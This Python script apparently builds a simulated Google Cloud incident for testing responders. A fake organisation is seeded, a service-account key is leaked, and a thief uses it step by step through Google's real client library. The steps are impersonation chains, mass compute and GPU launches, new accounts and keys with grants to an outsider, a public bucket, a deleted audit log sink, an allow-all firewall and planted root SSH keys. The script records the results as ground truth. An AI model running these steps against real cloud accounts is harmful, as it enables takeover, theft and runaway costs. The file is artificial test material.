"""Builds an organization of six projects, leaks a key of it and attacks through that key, all with Google's own Python client.

    attack.py URL [FILE] > world.json

FILE is where the stand-in is asked to keep its state. The document says what the thief made and became, by number, what the owners have beside it, and whose credentials are whose.
"""

import base64
import json
import sys
import time

from cloud import OWNERS, RESPONDER, THIEF, Actor, code, door, machine_of

ORG, APPS, SANDBOX = "100000000001", "200000000002", "200000000003"
SHOP, DATA, STAGE, LAB, OPS, PAY = "shop-prod-4821", "shop-data-1177", "shop-stage-3090", "sandbox-5512", "sec-ops-7001", "payroll-8080"
NUMBERS = {SHOP: "481516234201", DATA: "481516234202", STAGE: "481516234203", LAB: "481516234204", OPS: "481516234205", PAY: "481516234206"}
ALICE, RESPONSE, MALLORY = "alice@example.com", "responder@example.com", "user:mallory@example.net"
TAKEOVER = ["roles/owner", "roles/resourcemanager.organizationAdmin", "roles/resourcemanager.folderAdmin", "roles/iam.denyAdmin", "roles/logging.privateLogViewer",
            "roles/serviceusage.serviceUsageConsumer", "roles/cloudasset.viewer"]
POOL = f"projects/{NUMBERS[OPS]}/locations/global/workloadIdentityPools/ci"
# The responders' project has the API of whatever may have to be contained.
KITCHEN = ["run", "container", "cloudfunctions", "batch", "dataproc", "dataflow", "aiplatform", "notebooks", "tpu", "cloudbuild", "cloudscheduler", "composer",
           "file", "sqladmin", "appengine", "billingbudgets", "cloudsupport", "sts"]
DAY, MINUTE = 86400, 60
CI, TOOL = "ci-runner/2.1 gl-python/3.11", "python-requests/2.31"


def email(name, project):
    return f"{name}@{project}.iam.gserviceaccount.com"


BUILDER, DEPLOYER, OPERATOR = email("builder", SHOP), email("deployer", DATA), email("operator", STAGE)
ROBOT = email("triage-robot", OPS)
BACKUP, WEB, METRICS = email("backup", DATA), email("frontend", SHOP), email("svc-metrics", SHOP)


def house(url):
    """What the owners have, long before."""
    door(url, "clock", {"offset": -20 * DAY})
    door(url, "tree", {
        "organizations": {ORG: "example.com"}, "folders": {APPS: [f"organizations/{ORG}", "apps"], SANDBOX: [f"organizations/{ORG}", "sandbox"]},
        "projects": {id: {"parent": parent, "number": NUMBERS[id], "billing": "billingAccounts/012345-6789AB-CDEF01",
                          "services": KITCHEN if id == OPS else []} for id, parent in (
            (SHOP, f"folders/{APPS}"), (DATA, f"folders/{APPS}"), (STAGE, f"folders/{APPS}"), (LAB, f"folders/{SANDBOX}"),
            (OPS, f"organizations/{ORG}"), (PAY, f"organizations/{ORG}"))},
        "policies": {f"organizations/{ORG}": {"bindings": [{"role": role, "members": [f"user:{ALICE}", f"user:{RESPONSE}"]} for role in TAKEOVER]},
                     "billingAccounts/012345-6789AB-CDEF01": {"bindings": [{"role": "roles/billing.admin", "members": [f"user:{ALICE}", f"user:{RESPONSE}"]}]}}})
    alice = Actor.of_user(url, ALICE, OWNERS, agent="google-cloud-sdk gcloud/528.0.0", quota=OPS)
    iam, crm = alice("iam").projects().serviceAccounts(), alice("cloudresourcemanager", "v3").projects()
    for account in (BUILDER, DEPLOYER, OPERATOR, BACKUP, WEB, ROBOT):
        name, project = account.split("@")[0], account.split("@")[1].split(".")[0]
        iam.create(name=f"projects/{project}", body={"accountId": name, "serviceAccount": {"displayName": name}}).execute()
    for project, role, account in (
        (SHOP, "roles/editor", BUILDER), (SHOP, "roles/iam.serviceAccountAdmin", BUILDER), (SHOP, "roles/logging.configWriter", BUILDER),
        (SHOP, "roles/storage.admin", BUILDER), (DATA, "roles/editor", BUILDER), (DATA, "roles/resourcemanager.projectIamAdmin", BUILDER),
        (DATA, "roles/editor", DEPLOYER), (STAGE, "roles/editor", DEPLOYER), (STAGE, "roles/editor", OPERATOR), (LAB, "roles/editor", OPERATOR),
        (DATA, "roles/editor", BACKUP), (SHOP, "roles/logging.viewer", WEB),
    ):
        alice.bind(crm, f"projects/{project}", role, f"serviceAccount:{account}")
    for role in TAKEOVER:
        alice.bind(alice("cloudresourcemanager", "v3").organizations(), f"organizations/{ORG}", role, f"serviceAccount:{ROBOT}")
    policy = iam.getIamPolicy(resource=f"projects/-/serviceAccounts/{ROBOT}").execute()
    policy["bindings"] = [{"role": "roles/iam.serviceAccountTokenCreator", "members": [f"user:{RESPONSE}", f"principal://iam.googleapis.com/{POOL}/subject/on-call"]}]
    iam.setIamPolicy(resource=f"projects/-/serviceAccounts/{ROBOT}", body={"policy": policy}).execute()
    # A condition stands in the policy of a project that the thief changes.
    alice.bind(crm, f"projects/{DATA}", "roles/viewer", "user:auditor@example.com", {"title": "until spring", "expression": 'request.time < timestamp("2030-04-01T00:00:00Z")'})
    for target, by in ((DEPLOYER, BUILDER), (OPERATOR, DEPLOYER)):
        policy = iam.getIamPolicy(resource=f"projects/-/serviceAccounts/{target}").execute()
        policy["bindings"] = [{"role": "roles/iam.serviceAccountTokenCreator", "members": [f"serviceAccount:{by}"]}]
        iam.setIamPolicy(resource=f"projects/-/serviceAccounts/{target}", body={"policy": policy}).execute()
    # Only here are reads of IAM logged.
    policy = crm.getIamPolicy(resource=f"projects/{DATA}", body={"options": {"requestedPolicyVersion": 3}}).execute()
    policy["auditConfigs"] = [{"service": "iam.googleapis.com", "auditLogConfigs": [{"logType": "ADMIN_READ"}]}]
    crm.setIamPolicy(resource=f"projects/{DATA}", body={"policy": policy, "updateMask": "bindings,etag,auditConfigs"}).execute()
    alice("storage").buckets().insert(project=SHOP, body={"name": "shop-assets-4821"}).execute()
    alice("logging", "v2").projects().sinks().create(parent=f"projects/{SHOP}", body={
        "name": "to-archive", "destination": "storage.googleapis.com/shop-assets-4821", "filter": 'severity>=NOTICE', "description": "the auditors'"}).execute()
    key = iam.keys().create(name=f"projects/-/serviceAccounts/{BUILDER}", body={}).execute()
    return alice, json.loads(base64.b64decode(key["privateKeyData"]))


def main(url):
    world = {"credentials": {}, "resources": [], "touched": [], "innocent": [], "bindings": [], "keys": {}}

    def note(kind, project, place, id, by, name=None):
        world["resources"].append({"kind": kind, "project": project, "place": place, "id": id, "by": by, "name": name})

    def spare(kind, project, place, id):
        world["innocent"].append({"kind": kind, "project": project, "place": place, "id": id})

    door(url, "knobs", {"seconds": 0.05})
    alice, file = house(url)
    world["organization"], world["projects"] = f"organizations/{ORG}", {"shop": SHOP, "data": DATA, "stage": STAGE, "lab": LAB, "ops": OPS, "pay": PAY}
    world["folder"], world["billing"] = APPS, "012345-6789AB-CDEF01"
    for project, zone, name in ((SHOP, "us-central1-a", "web-1"), (SHOP, "europe-west1-b", "web-1"), (DATA, "us-central1-a", "worker-1"),
                                (STAGE, "us-east1-b", "worker-1"), (PAY, "us-central1-a", "worker-1")):
        spare("instances", project, f"zones/{zone}", alice.launch(project, zone, name, account=WEB if project == SHOP else None))
    compute = alice("compute")
    alice.done(SHOP, compute.instanceTemplates().insert(project=SHOP, body={"name": "front", "properties": machine_of(SHOP, None, "e2-small")}).execute())
    operation = alice.done(SHOP, compute.instanceGroupManagers().insert(project=SHOP, zone="us-central1-b", body={
        "name": "workers", "baseInstanceName": "workers", "instanceTemplate": "global/instanceTemplates/front", "targetSize": 2}).execute())
    spare("instanceGroupManagers", SHOP, "zones/us-central1-b", operation["targetId"])
    door(url, "settle")
    for row in compute.instances().list(project=SHOP, zone="us-central1-b").execute()["items"]:
        spare("instances", SHOP, "zones/us-central1-b", row["id"])
    # The key at work for its owners: these machines are nobody's business, though the same account made them.
    door(url, "clock", {"offset": -3 * DAY})
    ci = Actor.of_key(url, file, OWNERS, agent=CI)
    for zone in ("us-central1-a", "us-west1-b"):
        spare("instances", SHOP, f"zones/{zone}", ci.launch(SHOP, zone, "build-1"))
    ci("iam").projects().serviceAccounts().patch(name=f"projects/-/serviceAccounts/{BUILDER}", body={
        "serviceAccount": {"description": "builds the shop"}, "updateMask": "description"}).execute()
    spare("instances", DATA, "zones/us-east1-c", ci.become(DEPLOYER, agent=CI).launch(DATA, "us-east1-c", "etl-1"))

    # ---- the thief ------------------------------------------------------------------------------------------------------------
    world["leaked_at"] = door(url, "clock", {"offset": -40 * MINUTE})
    door(url, "abuse", {"project": SHOP, "event": {"detectionType": "LEAKED_CREDENTIALS", "action": "NOTIFY", "leakedCredentialEvent": {
        "serviceAccountCredential": {"serviceAccount": BUILDER, "keyId": file["private_key_id"]}, "detectedUri": ["https://git.example.net/dotfiles/key.json"]}}})
    thief = Actor.of_key(url, file, THIEF, agent=TOOL)
    thief("cloudresourcemanager", "v3").projects().search().execute()
    zones = [row["name"] for row in thief("compute").zones().list(project=SHOP).execute()["items"]]
    thief("serviceusage").services().batchEnable(parent=f"projects/{SHOP}", body={"serviceIds": ["run.googleapis.com", "cloudscheduler.googleapis.com"]}).execute()
    world["enabled"] = [{"project": SHOP, "service": service} for service in ("run", "cloudscheduler")]
    assert code(thief("compute").instances().insert(project=PAY, zone="us-central1-a", body=machine_of(PAY, "us-central1-a", "e2-small") | {"name": "worker-1"}))[0] == 403

    # Every zone of the first project, under the names that the owners use elsewhere.
    running = []
    for at, zone in enumerate(zones):
        body = machine_of(SHOP, zone, "c2-standard-60") | {"name": "worker-1", "deletionProtection": at % 3 == 0}
        if at % 5 == 1:
            body["disks"].append({"type": "SCRATCH", "autoDelete": True, "initializeParams": {"diskType": f"zones/{zone}/diskTypes/local-ssd"}})
        running.append((zone, thief("compute").instances().insert(project=SHOP, zone=zone, body=body).execute()))
    for zone, operation in running:
        note("instances", SHOP, f"zones/{zone}", thief.done(SHOP, operation)["targetId"], "leaked", "worker-1")

    deployer = thief.become(DEPLOYER, agent=TOOL)
    operator = thief.become(OPERATOR, [DEPLOYER], agent=TOOL)
    bulk = []
    for region in ("us-central1", "europe-west4", "asia-east1"):
        bulk.append((DATA, deployer("compute").regionInstances().bulkInsert(project=DATA, region=region, body={
            "count": "3", "namePattern": "job-###", "instanceProperties": machine_of(DATA, None, "n2d-highcpu-224")}).execute()))
    for zone in zones:
        bulk.append((LAB, operator("compute").instances().bulkInsert(project=LAB, zone=zone, body={
            "count": "1", "namePattern": "worker-#", "instanceProperties": machine_of(LAB, None, "a2-highgpu-1g")}).execute()))
    for project, operation in bulk:
        (deployer if project == DATA else operator).done(project, operation)
    for project, by, actor in ((DATA, "deployer", deployer), (LAB, "operator", operator)):
        for scope, held in actor("compute").instances().aggregatedList(project=project).execute()["items"].items():
            for row in held.get("instances", []):
                if row["id"] not in [each["id"] for each in world["innocent"]]:
                    note("instances", project, scope, row["id"], by, row["name"])

    # Groups that heal themselves, and autoscalers that hold their size.
    compute = operator("compute")
    operator.done(LAB, compute.instanceTemplates().insert(project=LAB, body={"name": "worker", "properties": machine_of(LAB, None, "g2-standard-96")}).execute())
    note("instanceTemplates", LAB, "global", template(compute), "operator", "worker")
    for groups, scalers, place in ((compute.instanceGroupManagers(), compute.autoscalers(), {"zone": "us-east1-b"}),
                                   (compute.regionInstanceGroupManagers(), compute.regionAutoscalers(), {"region": "europe-west1"})):
        scope = f"{next(iter(place))}s/{next(iter(place.values()))}"
        body = {"name": "workers", "baseInstanceName": "workers", "instanceTemplate": "global/instanceTemplates/worker", "targetSize": 2}
        note("instanceGroupManagers", LAB, scope, operator.done(LAB, groups.insert(project=LAB, body=body, **place).execute())["targetId"], "operator", "workers")
        body = {"name": "workers", "target": f"{scope}/instanceGroupManagers/workers", "autoscalingPolicy": {"minNumReplicas": 3, "maxNumReplicas": 6}}
        note("autoscalers", LAB, scope, operator.done(LAB, scalers.insert(project=LAB, body=body, **place).execute())["targetId"], "operator", "workers")
        for _ in range(200):
            members = groups.listManagedInstances(project=LAB, instanceGroupManager="workers", **place).execute().get("managedInstances", [])
            if len(members) == 3 and all(row["instanceStatus"] == "RUNNING" for row in members):
                break
            time.sleep(0.05)
        for row in members:
            note("instances", LAB, "zones/" + row["instance"].split("/zones/")[1].split("/")[0], row["id"], "workers", row["name"])

    # ---- what keeps it in -----------------------------------------------------------------------------------------------------
    iam, crm = thief("iam").projects().serviceAccounts(), thief("cloudresourcemanager", "v3").projects()
    made = iam.keys().create(name=f"projects/-/serviceAccounts/{BACKUP}", body={}).execute()
    world["backup_key"] = made["name"]
    backup = Actor.of_key(url, json.loads(base64.b64decode(made["privateKeyData"])), THIEF, agent=TOOL)
    note("instances", DATA, "zones/us-west1-a", backup.launch(DATA, "us-west1-a", "db-backup"), "backup", "db-backup")
    created = iam.create(name=f"projects/{SHOP}", body={"accountId": "svc-metrics", "serviceAccount": {"displayName": "metrics"}}).execute()
    world["made_account"] = {"email": created["email"], "uniqueId": created["uniqueId"]}
    made = iam.keys().create(name=created["name"], body={}).execute()
    world["made_key"] = made["name"]
    metrics_file = json.loads(base64.b64decode(made["privateKeyData"]))
    policy = iam.getIamPolicy(resource=f"projects/-/serviceAccounts/{WEB}").execute()
    policy["bindings"] = policy.get("bindings", []) + [{"role": "roles/iam.serviceAccountTokenCreator", "members": [MALLORY]}]
    iam.setIamPolicy(resource=f"projects/-/serviceAccounts/{WEB}", body={"policy": policy}).execute()
    thief.bind(crm, f"projects/{DATA}", "roles/owner", f"serviceAccount:{METRICS}")
    thief.bind(crm, f"projects/{DATA}", "roles/viewer", MALLORY)
    world["bindings"] = [{"resource": f"projects/{SHOP}/serviceAccounts/{WEB}", "role": "roles/iam.serviceAccountTokenCreator", "member": MALLORY},
                         {"resource": f"projects/{DATA}", "role": "roles/owner", "member": f"serviceAccount:{METRICS}"},
                         {"resource": f"projects/{DATA}", "role": "roles/viewer", "member": MALLORY}]
    metrics = Actor.of_key(url, metrics_file, THIEF, agent=TOOL)
    note("instances", DATA, "zones/asia-southeast1-a", metrics.launch(DATA, "asia-southeast1-a", "metrics-1"), "metrics", "metrics-1")
    hmac = thief("storage").projects().hmacKeys().create(projectId=SHOP, serviceAccountEmail=BUILDER).execute()
    world["hmac"] = hmac["metadata"]["accessId"]
    policy = thief("storage").buckets().getIamPolicy(bucket="shop-assets-4821").execute()
    policy["bindings"].append({"role": "roles/storage.objectViewer", "members": ["allUsers"]})
    thief("storage").buckets().setIamPolicy(bucket="shop-assets-4821", body=policy).execute()
    world["touched"].append({"kind": "buckets", "project": SHOP, "id": "shop-assets-4821"})
    thief("logging", "v2").projects().sinks().delete(sinkName=f"projects/{SHOP}/sinks/to-archive").execute()
    world["touched"].append({"kind": "sinks", "project": SHOP, "id": "to-archive"})
    time.sleep(0.2)
    place = f"projects/{SHOP}/locations/us-central1"
    thief("run", "v2").projects().locations().services().create(parent=place, serviceId="metrics", body={
        "template": {"containers": [{"image": "example.com/m:1"}], "scaling": {"minInstanceCount": 20}}}).execute()
    service = thief("run", "v2").projects().locations().services().get(name=f"{place}/services/metrics").execute()
    note("run.services", SHOP, "locations/us-central1", service["uid"], "leaked", "metrics")
    thief("cloudscheduler").projects().locations().jobs().create(parent=place, body={
        "name": f"{place}/jobs/wake", "schedule": "* * * * *", "httpTarget": {"uri": "https://example.net/wake"}}).execute()
    note("scheduler.jobs", SHOP, "locations/us-central1", f"{place}/jobs/wake", "leaked", "wake")
    operation = thief.done(SHOP, thief("compute").firewalls().insert(project=SHOP, body={
        "name": "allow-all", "network": "global/networks/default", "sourceRanges": ["0.0.0.0/0"], "allowed": [{"IPProtocol": "all"}]}).execute())
    note("firewalls", SHOP, "global", operation["targetId"], "leaked", "allow-all")
    # Doors into machines: a key in every machine of a project, and in one of the owners'.
    compute = deployer("compute")
    metadata = compute.projects().get(project=DATA).execute()["commonInstanceMetadata"]
    deployer.done(DATA, compute.projects().setCommonInstanceMetadata(project=DATA, body={
        "fingerprint": metadata["fingerprint"], "items": metadata.get("items", []) + [{"key": "ssh-keys", "value": "root:ssh-ed25519 AAAAC3Nza mallory"}]}).execute())
    world["touched"].append({"kind": "projects.metadata", "project": DATA, "id": "ssh-keys"})
    compute = thief("compute")
    owned = compute.instances().get(project=SHOP, zone="us-central1-a", instance="web-1").execute()
    thief.done(SHOP, compute.instances().setMetadata(project=SHOP, zone="us-central1-a", instance=owned["id"], body={
        "fingerprint": owned["metadata"]["fingerprint"], "items": [{"key": "ssh-keys", "value": "root:ssh-ed25519 AAAAC3Nza mallory"}]}).execute())
    world["touched"].append({"kind": "instances.metadata", "project": SHOP, "id": owned["id"]})

    # ---- and the owners go on ---------------------------------------------------------------------------------------------------
    door(url, "clock", {"offset": -10 * MINUTE})
    spare("instances", SHOP, "zones/europe-west4-c", alice.launch(SHOP, "europe-west4-c", "web-2", account=WEB))
    door(url, "settle")
    door(url, "clock", {"offset": 0})
    world["accounts"] = {"leaked": BUILDER, "deployer": DEPLOYER, "operator": OPERATOR, "backup": BACKUP, "metrics": METRICS, "web": WEB}
    world["key"] = file["private_key_id"]
    world["files"] = {"leaked": file, "metrics": metrics_file, "responder": door(url, "user", {"email": RESPONSE, "quota": OPS}), "robot": door(url, "key", {"email": ROBOT})}
    world["robot"], world["pool"] = ROBOT, POOL
    world["tokens"] = {"leaked": thief.credentials.token, "deployer": deployer.credentials.token, "operator": operator.credentials.token,
                       "backup": backup.credentials.token, "metrics": metrics.credentials.token}
    world["addresses"] = {"thief": THIEF, "owners": OWNERS, "responder": RESPONDER}
    return world


def template(compute):
    return compute.instanceTemplates().get(project=LAB, instanceTemplate="worker").execute()["id"]


if __name__ == "__main__":
    told = main(sys.argv[1])
    door(sys.argv[1], "knobs", {"seconds": 0.2})
    for kept in sys.argv[2:]:
        door(sys.argv[1], "save", {"path": kept})
    json.dump(told, sys.stdout, indent=1)
